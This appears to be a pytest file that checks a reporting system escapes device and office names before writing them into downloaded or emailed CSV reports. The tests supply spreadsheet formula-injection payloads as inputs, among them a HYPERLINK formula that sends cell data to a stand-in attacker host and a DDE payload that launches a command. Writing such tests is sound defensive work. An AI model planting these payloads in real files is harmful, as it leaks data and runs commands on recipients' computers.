"""Names from devices and offices never reach a spreadsheet as formulas: downloaded or mailed CSV alike."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import update

from central.config import parse_config
from central.reports.render import spreadsheet_safe
from central.reports.schedule import send_due_reports
from central.storage.db import Database
from central.storage.models import Camera, Website
from tests.central.alerts.receivers import SMTP_PASSWORD, SMTP_USER, SmtpServer, start_smtp_server
from tests.central.reports.test_report_figures import seed

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"klik")': '\'=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "-12.5": "-12.5",  # a plain number is no formula
    "Kamera = Simpang": "Kamera = Simpang",
    "": "",
}


@pytest.mark.parametrize(("cell", "expected"), HOSTILE.items())
def test_owasp_rule(cell: str, expected: str) -> None:
    assert spreadsheet_safe(cell) == expected


@pytest.fixture
def smtp_server(tmp_path: Path) -> Iterator[SmtpServer]:
    yield from start_smtp_server(tmp_path)


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_mailed_report_csv_is_neutralised(sqlite_url: str, smtp_server: SmtpServer) -> None:
    database = Database(sqlite_url)
    seed(database)
    with database.session(write=True) as session:
        session.execute(
            update(Camera).where(Camera.camera_id == "cam-a").values(display_name="=HYPERLINK(1)")
        )
        session.execute(update(Camera).where(Camera.camera_id == "cam-b").values(owner_opd="@SUM(1+1)"))
        session.execute(update(Website).where(Website.website_id == "w1").values(owner_opd="+cmd|calc"))
    config = parse_config(
        {
            "database": {"url": sqlite_url},
            "alerts": {"smtp": {"host": smtp_server.host, "port": smtp_server.port, "username": SMTP_USER,
                                "password": SMTP_PASSWORD, "ca_file": str(smtp_server.ca_file)}},
            "reports": {"monthly_email_to": ["gubernur@sumselprov.go.id"]},
        }
    )  # fmt: skip
    assert send_due_reports(config, database, datetime(2025, 4, 1, 3, 0, tzinfo=UTC)) == ["2025-03"]
    [mail] = smtp_server.drain()
    cells = [
        cell
        for part in mail.message.walk()
        if (part.get_filename() or "").endswith(".csv")
        for cell in _cells(part.get_payload(decode=True))
    ]
    assert {"'=HYPERLINK(1)", "'@SUM(1+1)", "'+cmd|calc"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    database.dispose()
